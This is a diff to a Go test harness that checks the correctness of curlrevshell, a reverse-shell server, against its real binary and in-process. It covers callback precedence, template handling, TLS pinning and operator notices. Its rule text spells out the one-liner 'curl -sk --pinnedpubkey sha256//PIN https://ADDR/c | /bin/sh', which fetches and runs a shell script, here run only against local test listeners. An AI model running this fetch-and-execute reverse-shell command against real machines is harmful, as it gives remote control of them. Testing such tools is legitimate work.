@@ -1,7 +1,8 @@
 // Package c07: the script served at /c yields a working, correctly addressed
 // shell.
 //
-// Seven engines, all against hsrv.Server in-process on real TLS listeners:
+// Seven engines against hsrv.Server in-process on real TLS listeners, and three
+// against the real binary (binary.go: bintmpl, binscript, binexec):
 //
 //	precedence  raw requests over all 2^4 presence combinations of c2
 //	            parameter / c2 header / Host / SNI, judged by a reference
@@ -44,6 +45,7 @@ import (
 
 	"github.com/magisterquis/curlrevshell/verifharness/mon"
 	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
+	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
 	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
 )
 
@@ -176,13 +178,37 @@ func (c *ctx) checkScript(engine string, idx int, body []byte, conn *hk.Conn, or
 }
 
 // awaitNotice waits for the "Sent script" notice of id and compares its URL.
-func (c *ctx) awaitNotice(engine string, idx int, s *hk.Server, from int, id, auth string, wit map[string]any) {
+func (c *ctx) awaitNotice(engine string, idx int, l *lsn, from int, id, auth string, wit map[string]any) {
+	s := l.s
 	pre := "Sent script: ID:" + id + " URL:"
 	c.vmu.Lock()
 	missed := c.vcount["script-notice-missing"]
 	c.vmu.Unlock()
 	if missed >= 4 {
 		c.r.Count("notices_not_awaited_after_repeated_misses", 1)
+		return
+	}
+	if l.bin != nil {
+		// the program's terminal
+		loc, ok := l.bin.Wait(regexp.QuoteMeta(pre)+`[^\r\n]*[\r\n]`, from, hk.Bound)
+		if !ok {
+			c.violate(engine, idx, "script-notice-missing", fmt.Sprintf("no 'Sent script' notice for the script with ID %s on the program's terminal within %s", id, hk.Bound), wit)
+			return
+		}
+		c.r.Count(engine+"_notices_matched", 1)
+		line := l.bin.P.Clean()[loc[0]:loc[1]]
+		got := strings.TrimRight(line[len(pre):], " \r\n")
+		ascii := true
+		for i := 0; i < len(auth); i++ {
+			if auth[i] >= 0x80 || auth[i] < 0x20 {
+				ascii = false
+			}
+		}
+		if !ascii {
+			c.r.Count(engine+"_notice_urls_not_compared_non_ascii", 1)
+		} else if got != auth {
+			c.violate(engine, idx, "script-notice-differs", fmt.Sprintf("the program's notice for script %s names URL %q, the script calls back to %q", id, got, auth), wit)
+		}
 		return
 	}
 	ev, ok := s.Log.Wait(from, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, pre) })
@@ -204,6 +230,32 @@ type lsn struct {
 	class string // "" for the listeners on an OS-chosen port and on 443; else the port class
 	s     *hk.Server
 	port  string
+	// the real binary instead of hsrv in process (binary.go)
+	bin *crs.Session
+	eng string
+	cfg *binCfg
+}
+
+func (l *lsn) addr() string {
+	if l.bin != nil {
+		return dialAddr(l.bin.Addr)
+	}
+	return l.s.Addr
+}
+
+// mark: a position in the operator's view before a request.
+func (l *lsn) mark() int {
+	if l.bin != nil {
+		return l.bin.P.CleanLen()
+	}
+	return l.s.Log.Len()
+}
+
+func (l *lsn) engine() string {
+	if l.eng != "" {
+		return l.eng
+	}
+	return "precedence"
 }
 
 func startLsn(name, addr string, cfg hk.Config) (*lsn, error) {
@@ -612,16 +664,17 @@ func sweepLen() int { return 3 * 2 * (len(unicodeHosts) + len(asciiHosts(7, "1")
 
 func (c *ctx) precedenceCase(idx int, l *lsn, pc *pcase) {
 	r := c.r
+	eng := l.engine()
 	if pc == nil {
 		pc = genCase(r.Rng("precedence", idx), idx, l, idx%16)
 	}
 	raw := pc.raw()
 	exp := reference(pc, l.port)
 	cls := pc.class()
-	from := l.s.Log.Len()
-	res, conn, err := hk.RoundTrip(l.s.Addr, pc.SNI, raw, hk.Bound)
+	from := l.mark()
+	res, conn, err := hk.RoundTrip(l.addr(), pc.SNI, raw, hk.Bound)
 	if err != nil || res == nil {
-		r.Inconclusive(fmt.Sprintf("precedence %d: request failed: %v", idx, err))
+		r.Inconclusive(fmt.Sprintf("%s %d: request failed: %v", eng, idx, err))
 		return
 	}
 	r.Eval(1)
@@ -635,14 +688,17 @@ func (c *ctx) precedenceCase(idx int, l *lsn, pc *pcase) {
 		r.Distinct("prec|" + l.name + "|" + string(raw) + "|" + pc.SNI)
 	}
 	wit := map[string]any{"case": pc, "request": string(raw), "listen_port": l.port, "expected": exp, "status": res.Status, "body": string(res.Body)}
+	if l.cfg != nil {
+		wit["program"] = l.cfg
+	}
 
 	if exp.Err {
 		r.Count("error_responses_checked", 1)
 		if res.Status < 400 {
-			c.violate("precedence", idx, "no-source-accepted", fmt.Sprintf("a request with no c2 parameter, no c2 header, no Host and no SNI was answered with status %d", res.Status), wit)
+			c.violate(eng, idx, "no-source-accepted", fmt.Sprintf("a request with no c2 parameter, no c2 header, no Host and no SNI was answered with status %d", res.Status), wit)
 		}
 		if len(res.Body) > 0 {
-			c.violate("precedence", idx, "error-with-script-body", fmt.Sprintf("status %d for a request without any address source came with a %d-byte body", res.Status, len(res.Body)), wit)
+			c.violate(eng, idx, "error-with-script-body", fmt.Sprintf("status %d for a request without any address source came with a %d-byte body", res.Status, len(res.Body)), wit)
 		}
 		r.Sample("precedence-error", map[string]any{"request": string(raw), "sni": pc.SNI, "status": res.Status, "body_len": len(res.Body)})
 		return
@@ -672,17 +728,17 @@ func (c *ctx) precedenceCase(idx int, l *lsn, pc *pcase) {
 		if exp.AcceptErr && res.Status >= 400 {
 			r.Count("ambiguous_param:observed-fallthrough", 1)
 			if len(res.Body) > 0 {
-				c.violate("precedence", idx, "error-with-script-body", fmt.Sprintf("status %d came with a %d-byte body", res.Status, len(res.Body)), wit)
+				c.violate(eng, idx, "error-with-script-body", fmt.Sprintf("status %d came with a %d-byte body", res.Status, len(res.Body)), wit)
 			}
 			return
 		}
-		c.violate("precedence", idx, keyFor(""), fmt.Sprintf("status %d instead of a script although the %s source gives %q (class %s, listener %s)", res.Status, exp.Source, exp.Accept, cls, l.name), wit)
+		c.violate(eng, idx, keyFor(""), fmt.Sprintf("status %d instead of a script although the %s source gives %q (class %s, listener %s)", res.Status, exp.Source, exp.Accept, cls, l.name), wit)
 		if res.Status >= 400 && len(res.Body) > 0 {
-			c.violate("precedence", idx, "error-with-script-body", fmt.Sprintf("status %d came with a %d-byte body", res.Status, len(res.Body)), wit)
+			c.violate(eng, idx, "error-with-script-body", fmt.Sprintf("status %d came with a %d-byte body", res.Status, len(res.Body)), wit)
 		}
 		return
 	}
-	sc := c.checkScript("precedence", idx, res.Body, conn, fmt.Sprintf("precedence %d", idx), wit)
+	sc := c.checkScript(eng, idx, res.Body, conn, fmt.Sprintf("%s %d", eng, idx), wit)
 	if sc == nil {
 		return
 	}
@@ -713,11 +769,11 @@ func (c *ctx) precedenceCase(idx int, l *lsn, pc *pcase) {
 	}
 	for _, a := range sc.Auth {
 		if !contains(exp.Accept, a) {
-			c.violate("precedence", idx, keyFor(a), fmt.Sprintf("script calls back to %q; by the stated precedence the %s source gives %q (class %s, listener %s, port %s)", a, exp.Source, exp.Accept, cls, l.name, l.port), wit)
+			c.violate(eng, idx, keyFor(a), fmt.Sprintf("script calls back to %q; by the stated precedence the %s source gives %q (class %s, listener %s, port %s)", a, exp.Source, exp.Accept, cls, l.name, l.port), wit)
 			break
 		}
 	}
-	c.awaitNotice("precedence", idx, l.s, from, sc.ID[0], obs, wit)
+	c.awaitNotice(eng, idx, l, from, sc.ID[0], obs, wit)
 	r.Sample("precedence", map[string]any{"request": string(raw), "sni": pc.SNI, "listener": l.name, "listen_port": l.port, "class": cls, "expected_source": exp.Source, "expected_authority": exp.Accept, "observed_authority": obs, "id": sc.ID[0]})
 }
 
@@ -1185,8 +1241,9 @@ func (c *ctx) templateEngine() {
 // ---- entry -----------------------------------------------------------------------
 
 func Run(r *mon.Run) {
-	r.Rule = "hsrv.Server in-process on real TLS. precedence: raw requests over all 16 presence classes of c2 parameter (query, form body, both) / c2 header / Host (header, HTTP/1.0, absolute-form target carrying raw UTF-8) / SNI, with empty values, URL-encoded values, decoy names; each 200 body is parsed into its two curl commands which must agree in pin, authority and ID, the pin must equal base64(sha256(SPKI)) of the leaf presented in that handshake, the authority must equal the reference function written from the statement (IDNA answers from a fixed table), a 'Sent script' notice must carry the same ID/URL; no source at all => status >= 400 and empty body. LISTEN PORTS of the precedence engine: OS-chosen on 127.0.0.1 and [::1], 443 itself, and ports drawn by the PRNG from classes defined by their decimal relation to 443 - ends443 (1443 … 65443), ends43or3 (ends in 43 but not 443, or in 3 but not 43), starts443 (4430-4439, 44300-44399), contains443 (x443y), near443 (442, 444, 44, 43, 4, 3; needs privilege) - per class 2 (thorough 6) listeners alternating 127.0.0.1 / [::1], a port that cannot be bound is skipped for the next candidate of its class (up to 24), per listener 32 (64) requests of which every other one carries nothing but SNI (expected authority: SNI:port for every port but 443) and the rest go round the 16 presence classes; the ports actually used are in coverage.listen_addresses_by_port_class. ids: every ID seen by any engine goes into one set (charset [0-9a-z], no repeat). exec: scripts addressed to the real listener are run by /bin/sh with real curl in their own process group; Input/Output connected with that ID, ready notice, 'echo RT-n-$((6*7))' answered with RT-n-42, exit. template: the configured path is <work>/tmpl-n/current/callback.tmpl in one of four layouts (sequence n: layout (n/2)%4, stealth = same size and mtime for every version if n is odd): plain (directory + regular file), link (callback.tmpl is a symbolic link to a file in store/), dirlink (current is a symbolic link to releases/N), dirlink+link (both); links are relative or absolute and are re-pointed by rename-over or by remove+create (PRNG). Histories of {write A, write B, rename-in, unparsable, failing at execution, empty, delete, directory, no-op} on what the path leads to, plus on a link layout {relink to a new file, relink to an earlier file, remove the link's target, relink to nothing; delete = remove the link, write = edit the link's target in place} and on a dirlink layout {swap current to a new release, to an earlier release, to a release without template, remove current}; the first 10-12 steps of a symlinked sequence are a fixed tour through every kind of link change, the rest is drawn from the PRNG; the link exists and resolves when the server starts; one request after every step, the response must reflect what the configured path leads to as of that request (valid => 200 rendered from the current content; missing/dangling/unparsable/failing => status >= 400 and empty body); a model of the path is kept by the harness and compared with os.ReadFile through the configured path before every verdict. carry (carry.go; nothing of one request's script may reach another request, in particular not through a request that failed): the configured template is a shell script of 1 KiB, 6 KiB, 24 KiB, 96 KiB, 384 KiB, 1.5 MiB or 8 MiB (sequence n: size class (n/4)%7, actual size 75-100% of it; 8-600 comment lines each carrying {{.ID}} and {{.URL}}, the two curl commands of the default template after the first line, in the middle or at the end), so that every rendering names its request on every line; every request of a sequence has its own callback address (c2 parameter, c2 header or Host in turn). Well-behaved clients (fresh connection or a persistent one, Content-Length and chunked answers) are mixed on the same server with clients that ask for the script and go away: TCP reset (linger 0) without reading, after 1 byte, after a part (1 byte … half the script / 256 KiB); TLS close after 1 byte or a part; the socket closed under TLS after a part; one in five on a connection that has served a complete script before; these clients announce a receive buffer of 32-256 KiB and a segment size of 1400 or 536 bytes (or the defaults) before connecting, as a remote client does, so that the server is still sending a large script when they leave (counted as carry_aborts_mid_write: the handler's 'Sent script' notice is not among the operator lines before a marker sent when the client has read its part, and appears after it left). Sequential sequences ((n/2) even): a fixed tour, then PRNG-drawn disturbances {one or two leaving clients, the template rewritten (new version, new size, new layout; half the time followed by a leaving client), the template replaced by one that emits up to 1 MiB of output and then fails at execution - unknown field, index/slice out of range, missing sub-template, len/call of a wrong type - requested once or twice (status >= 400 and an empty body) and replaced by a valid one again}, each followed by one or two well-behaved requests or three at once. Concurrent sequences ((n/2) odd): two well-behaved clients (one persistent connection) and two leaving clients at the same time, then three more requests. Half of the sequences (n even) run in a child process with runtime.GOMAXPROCS(1), one at a time; the other half in a child process with all processors, three servers at a time (both beside the other engines). EVERY completely received 200 answer (HTTP framing complete) is compared byte for byte with the reference rendering for its own request - the pieces of the template text the file held at the time of the request with the ID found after the first '/i/', the request's callback address and the pin of the key presented in that handshake substituted by the harness itself (no template library) - so it starts with the template's first bytes, has exactly the reference's length and carries one ID; the ID goes into the run's set (no repeat, safe characters); a differing body is searched for the IDs and callback addresses it carries (those of clients that went away are remembered) and for its own rendering as a suffix. What a leaving client read is only used thus: if the first complete 'id=… url=…' it contains names another request's callback address, that is the same violation. distinct = distinct raw requests (precedence, per listen port for the port classes), executed script IDs, template transitions per layout and histories, carry (size class, mode, processors, connection kind, preceding disturbance, framing) and leaving-client shapes. THE HOST'S CURL (hostcurl.go). hostcurl: the documented one-liner 'curl -sk --pinnedpubkey sha256//PIN https://ADDR/c | /bin/sh' (PIN computed by the harness from the certificate the listener presents to an unrestricted client, ADDR the listen address on 127.0.0.1 or [::1]) is run by /bin/sh in its own process group on a 'host' whose curl is configured through a private .curlrc, found through $HOME or through $CURL_HOME in turn and read by all three curl processes of the pipeline (the fetch and the script's two callback commands): nothing (control); tls-max = 1.2; tlsv1.2 + tls-max = 1.2; tlsv1.3; curves = prime256v1 | secp384r1 | secp521r1 | X25519; tls-max = 1.2 with ciphers = one of ECDHE-ECDSA-AES128-GCM-SHA256 | ECDHE-ECDSA-AES256-GCM-SHA384 | ECDHE-ECDSA-CHACHA20-POLY1305 (the suites for an ECDSA key that Go serves by default; skipped if the served key is not ECDSA); tlsv1.3 with tls13-ciphers = TLS_AES_256_GCM_SHA384 | TLS_CHACHA20_POLY1305_SHA256; http1.1; http1.0; no-keepalive; noproxy = *; plus 6 (thorough 24) combinations of one TLS restriction with one HTTP/connection option drawn from the PRNG. Every profile is first tried with this machine's curl against a plain TLS listener of the harness's own (crypto/tls with nothing but a self-signed ECDSA P-256 certificate made by the harness, net/http handlers shaped like /c, /i, /o): the fetch (-sk), a download with -N and an upload with -T- from a pipe must all work there and the option must be seen in effect in the ClientHello / negotiated state / request line; a profile that fails any of this is NOT EXPLORED (coverage.hostcurl_profiles_not_explored; if only the fetch works there, as with http1.0 which cannot upload from a pipe, only the fetch of /c is explored and the printed script judged by the script oracle). Every usable profile gets 2 (thorough 8) runs: the server must send a script ('Sent script' notice, URL = ADDR, ID into the run's set), Input connected + Output connected with that ID and the ready notice must follow, 'echo HC-n-$((6*7))' must come back as HC-n-42, then exit. tlsclient: /c is fetched over connections of Go's TLS client restricted to MaxVersion TLS 1.2, MinVersion TLS 1.3, exactly TLS 1.2 with one of the three ECDHE-ECDSA AEAD suites, CurvePreferences of a single curve (P-256, P-384, P-521, X25519) with and without MaxVersion TLS 1.2 (restrictions that fail against the plain listener are not explored), against a listener on 127.0.0.1 and one on [::1], with a Host header or with nothing but SNI; a refused handshake is a violation (tls-client-refused:<restriction>), the script is judged as in the precedence engine (pin = key presented in that handshake, authority, notice)."
+	r.Rule = "hsrv.Server in-process on real TLS. precedence: raw requests over all 16 presence classes of c2 parameter (query, form body, both) / c2 header / Host (header, HTTP/1.0, absolute-form target carrying raw UTF-8) / SNI, with empty values, URL-encoded values, decoy names; each 200 body is parsed into its two curl commands which must agree in pin, authority and ID, the pin must equal base64(sha256(SPKI)) of the leaf presented in that handshake, the authority must equal the reference function written from the statement (IDNA answers from a fixed table), a 'Sent script' notice must carry the same ID/URL; no source at all => status >= 400 and empty body. LISTEN PORTS of the precedence engine: OS-chosen on 127.0.0.1 and [::1], 443 itself, and ports drawn by the PRNG from classes defined by their decimal relation to 443 - ends443 (1443 … 65443), ends43or3 (ends in 43 but not 443, or in 3 but not 43), starts443 (4430-4439, 44300-44399), contains443 (x443y), near443 (442, 444, 44, 43, 4, 3; needs privilege) - per class 2 (thorough 6) listeners alternating 127.0.0.1 / [::1], a port that cannot be bound is skipped for the next candidate of its class (up to 24), per listener 32 (64) requests of which every other one carries nothing but SNI (expected authority: SNI:port for every port but 443) and the rest go round the 16 presence classes; the ports actually used are in coverage.listen_addresses_by_port_class. ids: every ID seen by any engine goes into one set (charset [0-9a-z], no repeat). exec: scripts addressed to the real listener are run by /bin/sh with real curl in their own process group; Input/Output connected with that ID, ready notice, 'echo RT-n-$((6*7))' answered with RT-n-42, exit. template: the configured path is <work>/tmpl-n/current/callback.tmpl in one of four layouts (sequence n: layout (n/2)%4, stealth = same size and mtime for every version if n is odd): plain (directory + regular file), link (callback.tmpl is a symbolic link to a file in store/), dirlink (current is a symbolic link to releases/N), dirlink+link (both); links are relative or absolute and are re-pointed by rename-over or by remove+create (PRNG). Histories of {write A, write B, rename-in, unparsable, failing at execution, empty, delete, directory, no-op} on what the path leads to, plus on a link layout {relink to a new file, relink to an earlier file, remove the link's target, relink to nothing; delete = remove the link, write = edit the link's target in place} and on a dirlink layout {swap current to a new release, to an earlier release, to a release without template, remove current}; the first 10-12 steps of a symlinked sequence are a fixed tour through every kind of link change, the rest is drawn from the PRNG; the link exists and resolves when the server starts; one request after every step, the response must reflect what the configured path leads to as of that request (valid => 200 rendered from the current content; missing/dangling/unparsable/failing => status >= 400 and empty body); a model of the path is kept by the harness and compared with os.ReadFile through the configured path before every verdict. carry (carry.go; nothing of one request's script may reach another request, in particular not through a request that failed): the configured template is a shell script of 1 KiB, 6 KiB, 24 KiB, 96 KiB, 384 KiB, 1.5 MiB or 8 MiB (sequence n: size class (n/4)%7, actual size 75-100% of it; 8-600 comment lines each carrying {{.ID}} and {{.URL}}, the two curl commands of the default template after the first line, in the middle or at the end), so that every rendering names its request on every line; every request of a sequence has its own callback address (c2 parameter, c2 header or Host in turn). Well-behaved clients (fresh connection or a persistent one, Content-Length and chunked answers) are mixed on the same server with clients that ask for the script and go away: TCP reset (linger 0) without reading, after 1 byte, after a part (1 byte … half the script / 256 KiB); TLS close after 1 byte or a part; the socket closed under TLS after a part; one in five on a connection that has served a complete script before; these clients announce a receive buffer of 32-256 KiB and a segment size of 1400 or 536 bytes (or the defaults) before connecting, as a remote client does, so that the server is still sending a large script when they leave (counted as carry_aborts_mid_write: the handler's 'Sent script' notice is not among the operator lines before a marker sent when the client has read its part, and appears after it left). Sequential sequences ((n/2) even): a fixed tour, then PRNG-drawn disturbances {one or two leaving clients, the template rewritten (new version, new size, new layout; half the time followed by a leaving client), the template replaced by one that emits up to 1 MiB of output and then fails at execution - unknown field, index/slice out of range, missing sub-template, len/call of a wrong type - requested once or twice (status >= 400 and an empty body) and replaced by a valid one again}, each followed by one or two well-behaved requests or three at once. Concurrent sequences ((n/2) odd): two well-behaved clients (one persistent connection) and two leaving clients at the same time, then three more requests. Half of the sequences (n even) run in a child process with runtime.GOMAXPROCS(1), one at a time; the other half in a child process with all processors, three servers at a time (both beside the other engines). EVERY completely received 200 answer (HTTP framing complete) is compared byte for byte with the reference rendering for its own request - the pieces of the template text the file held at the time of the request with the ID found after the first '/i/', the request's callback address and the pin of the key presented in that handshake substituted by the harness itself (no template library) - so it starts with the template's first bytes, has exactly the reference's length and carries one ID; the ID goes into the run's set (no repeat, safe characters); a differing body is searched for the IDs and callback addresses it carries (those of clients that went away are remembered) and for its own rendering as a suffix. What a leaving client read is only used thus: if the first complete 'id=… url=…' it contains names another request's callback address, that is the same violation. distinct = distinct raw requests (precedence, per listen port for the port classes), executed script IDs, template transitions per layout and histories, carry (size class, mode, processors, connection kind, preceding disturbance, framing) and leaving-client shapes. THE HOST'S CURL (hostcurl.go). hostcurl: the documented one-liner 'curl -sk --pinnedpubkey sha256//PIN https://ADDR/c | /bin/sh' (PIN computed by the harness from the certificate the listener presents to an unrestricted client, ADDR the listen address on 127.0.0.1 or [::1]) is run by /bin/sh in its own process group on a 'host' whose curl is configured through a private .curlrc, found through $HOME or through $CURL_HOME in turn and read by all three curl processes of the pipeline (the fetch and the script's two callback commands): nothing (control); tls-max = 1.2; tlsv1.2 + tls-max = 1.2; tlsv1.3; curves = prime256v1 | secp384r1 | secp521r1 | X25519; tls-max = 1.2 with ciphers = one of ECDHE-ECDSA-AES128-GCM-SHA256 | ECDHE-ECDSA-AES256-GCM-SHA384 | ECDHE-ECDSA-CHACHA20-POLY1305 (the suites for an ECDSA key that Go serves by default; skipped if the served key is not ECDSA); tlsv1.3 with tls13-ciphers = TLS_AES_256_GCM_SHA384 | TLS_CHACHA20_POLY1305_SHA256; http1.1; http1.0; no-keepalive; noproxy = *; plus 6 (thorough 24) combinations of one TLS restriction with one HTTP/connection option drawn from the PRNG. Every profile is first tried with this machine's curl against a plain TLS listener of the harness's own (crypto/tls with nothing but a self-signed ECDSA P-256 certificate made by the harness, net/http handlers shaped like /c, /i, /o): the fetch (-sk), a download with -N and an upload with -T- from a pipe must all work there and the option must be seen in effect in the ClientHello / negotiated state / request line; a profile that fails any of this is NOT EXPLORED (coverage.hostcurl_profiles_not_explored; if only the fetch works there, as with http1.0 which cannot upload from a pipe, only the fetch of /c is explored and the printed script judged by the script oracle). Every usable profile gets 2 (thorough 8) runs: the server must send a script ('Sent script' notice, URL = ADDR, ID into the run's set), Input connected + Output connected with that ID and the ready notice must follow, 'echo HC-n-$((6*7))' must come back as HC-n-42, then exit. tlsclient: /c is fetched over connections of Go's TLS client restricted to MaxVersion TLS 1.2, MinVersion TLS 1.3, exactly TLS 1.2 with one of the three ECDHE-ECDSA AEAD suites, CurvePreferences of a single curve (P-256, P-384, P-521, X25519) with and without MaxVersion TLS 1.2 (restrictions that fail against the plain listener are not explored), against a listener on 127.0.0.1 and one on [::1], with a Host header or with nothing but SNI; a refused handshake is a violation (tls-client-refused:<restriction>), the script is judged as in the precedence engine (pin = key presented in that handshake, authority, notice). THE REAL BINARY (binary.go; main's wiring between the command line and hsrv; the program is built from the repository's working tree with -race and runs on a pseudo-terminal, its working directory being its private HOME). bintmpl: the template histories of the template engine against `curlrevshell -callback-template PATH` - sequence n: layout (n/2)%4, stealth if n is odd, the template PRESENT at start-up if (n/8) is even, else ABSENT at start-up (nothing at the path / no link / no current) or DANGLING at start-up (the link exists and leads nowhere, current -> a release without a template); PATH spelled n%6: absolute, relative to the working directory (t/current/callback.tmpl), ./…, ../home/…, t/store/../current/… (store a real directory), absolute with ./ and // inside; the flag spelled n%5: -f V, -f=V, --f V, --f=V, or given twice (first a decoy file holding another valid template, then PATH: the last occurrence is the configured one); every sequence starts with a request before anything is changed (a template absent at start-up => error status and no script), then a fixed tour (plain: create, edit, remove, re-create by rename, unparsable, re-create, directory, …; link layouts: every kind of link change as in the template engine) and PRNG-drawn steps, one request after each, judged by the SAME per-request oracle as the template engine (what the configured path leads to AT THAT MOMENT: valid => 200 rendered from the present content, absent/dangling/unparsable/failing => status >= 400 and empty body); the harness reads the path through the same spelling (HOME + \"/\" + spelling, resolved by the operating system) for its model comparison; every third sequence runs with no other option, with one, with a pair of the options below. binscript: the precedence engine's script oracle (16 presence classes per program; pin = key of that handshake, both commands agree, fresh safe ID, authority = reference function, 'Sent script' notice with that ID and URL on the program's terminal) against the program under a CONFIGURATION MATRIX: each of -one-shell, -serve-files-from (directory holding files named c, i/x, o, index.html / a single file named c / empty value / name with spaces at the edges / relative / ./…/ / ../home/… / through a symbolic link), -callback-address (one / with port / IPv6 literal / 36 of them), -ctrl-i (file / directory / missing / names with % verbs or spaces), -tls-certificate-cache (explicit / empty / inside the served directory / relative / in a directory that does not exist yet; otherwise the default under HOME), -log and CURLREVSHELL_LOG (flag / relative / environment / both), -no-timestamps, -ipv6-one-liners, -prompt (word / empty / with a % verb), -listen-address ([::1]:0 / localhost:0 / 127.0.0.3:0 / 0.0.0.0:0 / :0 / given twice; otherwise 127.0.0.1:0), -callback-template (a file that renders what the built-in template renders: regular / symbolic link / missing at start-up and created before the first request / relative / given twice) ALONE (cases 0-10) and then in PAIRS drawn by index (case i: options i%11 and (i%11+1+(i/11)%10)%11); the variants of every option are gone through in turn over the whole run (counted binopt_variant:*), value flags are spelled -f V / -f=V / --f V / --f=V and boolean flags -f / --f / -f=true / --f=true by the PRNG (binflag_form:*). binexec: under such configurations (alone and pairs in turn) one script per program, addressed to the listener through Host, the c2 parameter or SNI+port in turn, is run by /bin/sh with the real curl: Input connected + Output connected with its ID and the ready notice on the program's terminal, 'echo BX-n-$((6*7))' typed there answered with BX-n-42, exit. Not run: -icanhazip (no network: the program ends before it listens), -print-ctrl-i, -print-default-template (the program prints and ends); nothing of this property is observable there."
 	r.Assumptions = []string{
+		"real binary: 'a configured template file' is the file the -callback-template PATH names, resolved by the operating system from the program's working directory at the time of each request (not at start-up), whether or not anything existed there when the program started (-h: 'used if it exists' is read per request, as the statement's 'a missing … template produces an error status and no script' says); when the flag is given more than once the last occurrence is the configured one (Go's flag package, as for every other flag of the program); the other options of the program do not change any clause of this property (its statement names none of them), so the oracle under every configuration is the one of the default configuration; binexec progress bounds as in the exec engine (20 s per step, a fired bound is re-run alone with 40 s; script processes that have ended are a definite outcome)",
 		"the host information of a request with an absolute-form target is the target's authority (RFC 7230 5.4/5.5); Unicode hosts can only be sent this way because net/http rejects a non-ASCII Host header before any handler runs",
 		"an empty c2 value counts as not given; when one of query/body is 'c2=' and the other has a value, either reading is accepted (counted under ambiguous_param:*)",
 		"when query and body both give a value, either of the two is accepted",
@@ -1202,7 +1259,7 @@ func Run(r *mon.Run) {
 	c := newCtx(r)
 
 	var wg sync.WaitGroup
-	for _, f := range []func(){c.precedenceEngine, c.idsEngine, c.templateEngine, c.carryEngine, c.tlsclientEngine} {
+	for _, f := range []func(){c.precedenceEngine, c.idsEngine, c.templateEngine, c.carryEngine, c.tlsclientEngine, c.bintmplEngine, c.binscriptEngine} {
 		wg.Add(1)
 		go func() { defer wg.Done(); f() }()
 	}
@@ -1212,6 +1269,8 @@ func Run(r *mon.Run) {
 	c.execEngine()
 	// so does the hostcurl engine (hostcurl.go)
 	c.hostcurlEngine()
+	// the real binary's scripts, executed (binary.go)
+	c.binexecEngine()
 	r.Extra("distinct_ids", len(c.ids))
 
 	for _, cl := range []string{"p0h0o0s0", "p0h0o0s1", "p0h0o1s0", "p0h0o1s1", "p0h1o0s0", "p0h1o0s1", "p0h1o1s0", "p0h1o1s1", "p1h0o0s0", "p1h0o0s1", "p1h0o1s0", "p1h0o1s1", "p1h1o0s0", "p1h1o0s1", "p1h1o1s0", "p1h1o1s1"} {
@@ -1244,6 +1303,7 @@ func Run(r *mon.Run) {
 	if !r.Replaying() {
 		hostcurlFloors(r)
 		tlsclientFloors(r)
+		binaryFloors(r)
 	}
 	r.Floor("error_responses_checked", 40)
 }
